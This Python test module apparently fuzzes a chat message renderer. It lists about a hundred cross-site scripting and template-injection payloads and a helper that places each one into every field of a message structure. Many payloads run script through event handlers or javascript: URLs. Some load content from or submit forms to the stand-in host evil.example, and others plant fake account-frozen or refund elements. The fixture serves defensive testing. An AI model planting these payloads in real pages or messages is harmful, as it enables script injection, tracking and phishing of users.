"""A hundred texts that want to be more than texts, written anew after the public lists of such.

Each of them, where it worked, would open a dialog, ask something of ``evil.example``, or leave an element behind.
"""

from __future__ import annotations

from typing import Any

_OUT = "https://evil.example/"

_ELEMENTS = (
    "<script>alert(1)</script>",
    "</p><script>alert(2)</script><p>",
    f"<script src={_OUT}a.js></script>",
    f"<script type=module src='{_OUT}b.js'></script>",
    "<ScRiPt>alert(3)</sCrIpT>",
    "<script >alert(4)</script >",
    "<<script>alert(5);//<</script>",
    "<scr<script>ipt>alert(6)</scr</script>ipt>",
    "<script\n>alert(7)</script\n>",
    "<script/x>alert(8)</script>",
    "<img src=x onerror=alert(9)>",
    f"<img src='{_OUT}p.png'>",
    "<img src=x:x onerror\n=alert(10)>",
    "<img/src='x'/onerror=alert(11)//",
    '<IMG SRC=# ONERROR="alert(12)">',
    f"<img srcset='{_OUT}q.png 2x'>",
    "<svg onload=alert(13)>",
    "<svg><script>alert(14)</script></svg>",
    "<svg><animate onbegin=alert(15) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(16)'><text y=20>点这里</text></a></svg>",
    f"<svg><image href='{_OUT}s.png'/></svg>",
    f"<svg><use href='{_OUT}u.svg#x'/></svg>",
    "<math><mtext><img src=x onerror=alert(17)></mtext></math>",
    f"<iframe src='{_OUT}f'></iframe>",
    "<iframe srcdoc='<script>alert(18)</script>'></iframe>",
    "<iframe src='javascript:alert(19)'></iframe>",
    f"<object data='{_OUT}o'></object>",
    f"<embed src='{_OUT}e'>",
    "<body onload=alert(20)>",
    "<details open ontoggle=alert(21)>展开</details>",
    "<video><source onerror=alert(22)></video>",
    f"<video poster='{_OUT}v.png'></video>",
    "<audio src=x onerror=alert(23)>",
    "<input autofocus onfocus=alert(24)>",
    "<select autofocus onfocus=alert(25)>",
    "<textarea autofocus onfocus=alert(26)>",
    "<marquee onstart=alert(27)>",
    f"<link rel=stylesheet href='{_OUT}c.css'>",
    f"<link rel=prefetch href='{_OUT}pf'>",
    f"<base href='{_OUT}'>",
    f"<meta http-equiv=refresh content='0;url={_OUT}'>",
    f"<form action='{_OUT}'><button>提交</button></form>",
    f"<button formaction='{_OUT}'>退款</button>",
    "<dialog open>您的账号已冻结</dialog>",
    "<template><img src=x onerror=alert(28)></template>",
    "<xss id=x tabindex=1 onfocus=alert(29)></xss>",
    "<slot onslotchange=alert(30)>",
    "<h1>整页都是我的</h1>",
)
_ATTRIBUTES = (
    '" onmouseover="alert(31)',
    "' onmouseover='alert(32)",
    '"><img src=x onerror=alert(33)>',
    "'><img src=x onerror=alert(34)>",
    "` onmouseover=alert(35) `",
    '" autofocus onfocus=alert(36) x="',
    '" style="position:fixed;inset:0;background:red',
    f'" style="background:url({_OUT}bg.png)',
    '" hx-get="/zh/gallery" hx-trigger="load',
    f"' hx-get='{_OUT}' hx-trigger='load",
    '" hx-on:click="alert(37)',
    '" data-hx-get="/zh/" data-hx-trigger="load" x="',
    '" id="composer" data-base="https://evil.example',
    '" data-pointer="/blocks/99',
    '"/><script>alert(38)</script>',
    'x" src=x onerror=alert(39) alt="',
)
_CLOSINGS = (
    "</textarea><script>alert(40)</script>",
    "</title><script>alert(41)</script>",
    "</style><script>alert(42)</script>",
    "</script><script>alert(43)</script>",
    '{"a":"</script><img src=x onerror=alert(44)>"}',
    "--><script>alert(45)</script>",
    "]]><script>alert(46)</script>",
    "</template></svg></math><img src=x onerror=alert(47)>",
    "<!--",
    "<![CDATA[",
)
_ADDRESSES = (
    "javascript:alert(48)",
    "JaVaScRiPt:alert(49)",
    "java\tscript:alert(50)",
    "\x01javascript:alert(51)",
    "data:text/html,<script>alert(52)</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(53)'/>",
    "vbscript:msgbox(54)",
    "//evil.example/x.png",
    "https://evil.example/track.png",
    "https:///evil.example",
)
_LANGUAGES = (
    "{{ 7 * 7 }}",
    "{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__bases__ %}{% endfor %}",
    "${alert(55)}",
    "#{7*7}",
    "`${alert(56)}`",
    "'); alert(57); ('",
    '"); alert(58); //',
    "\\u003cimg src=x onerror=alert(59)\\u003e",
    "&lt;img src=x onerror=alert(60)&gt;",
    "&#60;script&#62;alert(61)&#60;/script&#62;",
    "@import url(https://evil.example/i.css);",
    "\u202e<\u202dscript>alert(62)",
    "a\u2028alert(63)\u2029b",
    "%3Cscript%3Ealert(64)%3C/script%3E",
    "+ADw-script+AD4-alert(65)+ADw-/script+AD4-",
)

TEXTS = (*_ELEMENTS, *_ATTRIBUTES, *_CLOSINGS, *_ADDRESSES, *_LANGUAGES)
"""All of them."""


def everywhere(text: str) -> dict[str, Any]:
    """Return a NormalMessage that has a text in each of its fields that is one, also where only a word may stand."""
    send = {
        "action_type": "ACTION_TYPE_SEND_MESSAGE",
        "message_info": {"content": text, "custom_data": text},
        "action_id": text,
    }
    jump = {"action_type": "ACTION_TYPE_JUMP_URL", "jump_url": text, "action_id": text}
    program = {
        "action_type": "ACTION_TYPE_JUMP_MINI_PROGRAM",
        "mini_program_jump_info": {"appid": text, "path": text, "text": text},
        "action_id": text,
    }
    unknown = {"action_type": text, "text": text}
    actions = [send, jump, program, unknown]
    buttons = [{"text": text, "action": action} for action in actions]
    return {
        "blocks": [
            {"type": "TEXT", "text": {"text": text, "color": text, "is_bold": True}},
            {"type": "TEXT", "text": {"text": text, "color": "SECONDARY"}},
            {"type": "IMAGE", "image": {"media_id": text, "image_style_type": text}},
            {"type": "IMAGE", "image": {"media_id": text, "image_style_type": "IMAGE_STYLE_TYPE_WIDE"}},
            *({"type": "LINK", "link": {"text": text, "action": action}} for action in actions),
            {
                "type": "FAQ_LIST",
                "faq_list": {"faqs": [{"faq_id": text, "faq_title": text, "action": action} for action in actions]},
            },
            *({"type": "BUTTON", "button": button} for button in buttons),
            {"type": "BUTTON_GROUP", "button_group": {"buttons": buttons, "button_layout": text}},
            {"type": "BUTTON_GROUP", "button_group": {"buttons": buttons, "button_layout": "LAYOUT_HORIZONTAL"}},
            {"type": text, "text": text, text: {"text": text}},
        ],
        "sender_identity": text,
        "custom_data": text,
    }
